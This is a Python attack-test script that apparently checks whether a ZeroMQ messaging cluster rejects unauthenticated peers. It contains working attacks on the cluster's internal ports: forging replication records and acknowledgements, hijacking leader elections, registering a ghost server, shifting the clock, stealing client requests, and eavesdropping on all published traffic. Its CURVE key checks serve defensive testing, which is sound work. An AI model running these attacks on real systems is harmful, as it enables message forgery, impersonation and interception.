#!/usr/bin/python3
"""A stranger on the network (python3-zmq, libzmq, msgpack) trying the
attacks an unauthenticated cluster fell to: it speaks the servers' own
messages to the cluster's internal ports, the way anyone's client would.

usage: py_stranger.py ATTACK --endpoint ENDPOINT [options]

  shift-clock      REQ  clock-adjust {adjustMs, name: --coordinator}
  ghost-server     REQ  rank {user: --name, address: --address}, then heartbeat {user: --name}
  fake-ack         REQ  replicated {from: --from, origin: --origin, ranges: [[1, --up-to]]}
  forge-history    REQ  replicate {from, origin, address, records} (one publish record)
  ask              REQ  --service with --data (a JSON map)
  fake-server      REP  on the broker's server side: waits for a client request to steal
  hijack-election  PUB  {service: election, data: {coordinator}} on topic `servers`
  forge-push       PUB  a replicate batch (one publish record) on topic `replication`
  eavesdrop        SUB  to everything; counts topics until "report" (or EOF) on stdin

Security: NULL unless --curve-server-key is given (a Z85 key, or "random"
for a wrong one); then CURVE with a fresh key pair of its own, or the pair
in --key-file (a libzmq certificate, for the control case of a trusted key).

REQ attacks send their requests every --every-ms for --duration-ms (once
each when 0) and wait --timeout-ms for each reply; PUB attacks publish
every --every-ms for --duration-ms. Each attack prints one JSON line
{"event": "result", "attack", "mechanism", "answered", "replies",
"handshakes", "events", ...}: "handshakes" counts the handshakes libzmq
saw succeed, "events" names the monitor events seen, and for REQ attacks
"unsent" counts requests no connection took within --timeout-ms (a
refused handshake leaves none up).
"""
import argparse
import json
import sys
import time

import msgpack
import zmq
import zmq.auth
from zmq.utils.monitor import recv_monitor_message

from py_common import out

ap = argparse.ArgumentParser()
ap.add_argument("attack")
ap.add_argument("--endpoint", required=True)
ap.add_argument("--curve-server-key")
ap.add_argument("--key-file")
ap.add_argument("--timeout-ms", type=int, default=1000)
ap.add_argument("--duration-ms", type=int, default=0)
ap.add_argument("--every-ms", type=int, default=100)
ap.add_argument("--coordinator", default="mallory")
ap.add_argument("--adjust-ms", type=int, default=3600000)
ap.add_argument("--name", default="ghost")
ap.add_argument("--address", default="tcp://10.255.255.1:1")
ap.add_argument("--from", dest="sender", default="server1")
ap.add_argument("--origin", default="server1")
ap.add_argument("--up-to", type=int, default=1000000)
ap.add_argument("--seq", type=int, default=1)
ap.add_argument("--channel", default="geral")
ap.add_argument("--message", default="forged")
ap.add_argument("--service", default="status")
ap.add_argument("--data", default="{}")
args = ap.parse_args()

ctx = zmq.Context()
clock = 0


def stamp(data):
    """The contract's timestamp (ms) and a ticked Lamport clock."""
    global clock
    clock += 1
    return dict(data, timestamp=int(time.time() * 1000), clock=clock)


def pack(service, data):
    return msgpack.packb({"service": service, "data": stamp(data)}, use_bin_type=True)


def secure(s):
    """NULL, or CURVE as a client of --curve-server-key."""
    if not args.curve_server_key:
        return "NULL"
    server_key = args.curve_server_key
    if server_key == "random":
        server_key = zmq.curve_keypair()[0].decode()
    if args.key_file:
        public, secret = zmq.auth.load_certificate(args.key_file)
    else:
        public, secret = zmq.curve_keypair()
    s.curve_serverkey = server_key.encode()
    s.curve_publickey = public
    s.curve_secretkey = secret
    return "CURVE"


def socket(kind):
    s = ctx.socket(kind)
    s.setsockopt(zmq.LINGER, 0)
    mechanism = secure(s)
    monitor = s.get_monitor_socket()
    return s, mechanism, monitor


def events(monitor):
    seen = []
    while monitor.poll(0):
        seen.append(zmq.Event(recv_monitor_message(monitor)["event"]).name)
    return seen


def record(seq):
    """One publish record as the servers replicate them."""
    now = int(time.time() * 1000)
    return {
        "origin": args.origin, "seq": seq, "kind": "publish", "id": "%s-%d" % (args.message, seq),
        "user": "mallory", "channel": args.channel, "message": args.message,
        "timestamp": now, "clock": 10 ** 9,
    }


def requests():
    """The (service, data) pairs of a REQ attack."""
    a = args.attack
    if a == "shift-clock":
        return [("clock-adjust", {"adjustMs": args.adjust_ms, "name": args.coordinator})]
    if a == "ghost-server":
        return [("rank", {"user": args.name, "address": args.address}), ("heartbeat", {"user": args.name})]
    if a == "fake-ack":
        return [("replicated", {"from": args.sender, "origin": args.origin, "ranges": [[1, args.up_to]]})]
    if a == "forge-history":
        batch = {"from": args.sender, "origin": args.origin, "address": args.address, "records": [record(args.seq)]}
        return [("replicate", batch)]
    if a == "ask":
        return [(args.service, json.loads(args.data))]
    sys.exit("unknown request attack " + a)


def request_attack():
    s, mechanism, monitor = socket(zmq.REQ)
    # A REQ whose reply never comes may send again (and ignores late replies).
    s.setsockopt(zmq.REQ_RELAXED, 1)
    s.setsockopt(zmq.REQ_CORRELATE, 1)
    # With no connection up (a refused handshake drops it), a send would wait for one.
    s.setsockopt(zmq.SNDTIMEO, args.timeout_ms)
    s.connect(args.endpoint)
    replies, sent, unsent = [], 0, 0
    deadline = time.monotonic() + args.duration_ms / 1000
    while True:
        for service, data in requests():
            try:
                s.send(pack(service, data))
            except zmq.Again:
                unsent += 1
                continue
            sent += 1
            if s.poll(args.timeout_ms):
                replies.append(msgpack.unpackb(s.recv(), raw=False))
        if time.monotonic() >= deadline:
            break
        time.sleep(args.every_ms / 1000)
    seen = events(monitor)
    out("result", attack=args.attack, mechanism=mechanism, sent=sent, unsent=unsent, answered=len(replies) > 0,
        replies=replies, handshakes=seen.count("HANDSHAKE_SUCCEEDED"), events=sorted(set(seen)))


def fake_server():
    s, mechanism, monitor = socket(zmq.REP)
    s.connect(args.endpoint)
    stolen = []
    if s.poll(max(args.timeout_ms, args.duration_ms)):
        stolen.append(msgpack.unpackb(s.recv(), raw=False))
    seen = events(monitor)
    out("result", attack=args.attack, mechanism=mechanism, answered=len(stolen) > 0, replies=stolen,
        handshakes=seen.count("HANDSHAKE_SUCCEEDED"), events=sorted(set(seen)))


def publish_attack():
    s, mechanism, monitor = socket(zmq.PUB)
    s.connect(args.endpoint)
    if args.attack == "hijack-election":
        def message(i):
            return [b"servers", pack("election", {"coordinator": args.coordinator})]
    elif args.attack == "forge-push":
        def message(i):
            batch = {"from": args.sender, "origin": args.origin, "address": args.address, "records": [record(args.seq + i)]}
            return [b"replication", pack("replicate", batch)]
    else:
        sys.exit("unknown publish attack " + args.attack)
    sent = 0
    deadline = time.monotonic() + max(args.duration_ms, args.every_ms) / 1000
    while time.monotonic() < deadline:
        s.send_multipart(message(sent))
        sent += 1
        time.sleep(args.every_ms / 1000)
    seen = events(monitor)
    out("result", attack=args.attack, mechanism=mechanism, sent=sent, answered=False, replies=[],
        handshakes=seen.count("HANDSHAKE_SUCCEEDED"), events=sorted(set(seen)))


def eavesdrop():
    s, mechanism, monitor = socket(zmq.SUB)
    s.setsockopt(zmq.SUBSCRIBE, b"")
    s.connect(args.endpoint)
    out("listening", mechanism=mechanism)
    poller = zmq.Poller()
    poller.register(s, zmq.POLLIN)
    poller.register(sys.stdin, zmq.POLLIN)
    topics, samples = {}, {}
    deadline = time.monotonic() + args.duration_ms / 1000 if args.duration_ms else None
    while deadline is None or time.monotonic() < deadline:
        ready = dict(poller.poll(500))
        if ready.get(s):
            while s.poll(0):
                frames = s.recv_multipart()
                topic = frames[0].decode("utf-8", "replace")
                topics[topic] = topics.get(topic, 0) + 1
                if topic not in samples and len(frames) > 1 and len(samples) < 100:
                    try:
                        samples[topic] = msgpack.unpackb(frames[1], raw=False)
                    except Exception:
                        samples[topic] = "undecodable"
        if ready.get(sys.stdin.fileno()):
            line = sys.stdin.readline()
            if line == "" or line.strip() == "report":
                break
    seen = events(monitor)
    out("result", attack=args.attack, mechanism=mechanism, topics=topics, samples=samples,
        handshakes=seen.count("HANDSHAKE_SUCCEEDED"), events=sorted(set(seen)))


try:
    if args.attack == "eavesdrop":
        eavesdrop()
    elif args.attack == "fake-server":
        fake_server()
    elif args.attack in ("hijack-election", "forge-push"):
        publish_attack()
    else:
        request_attack()
finally:
    ctx.destroy(linger=0)
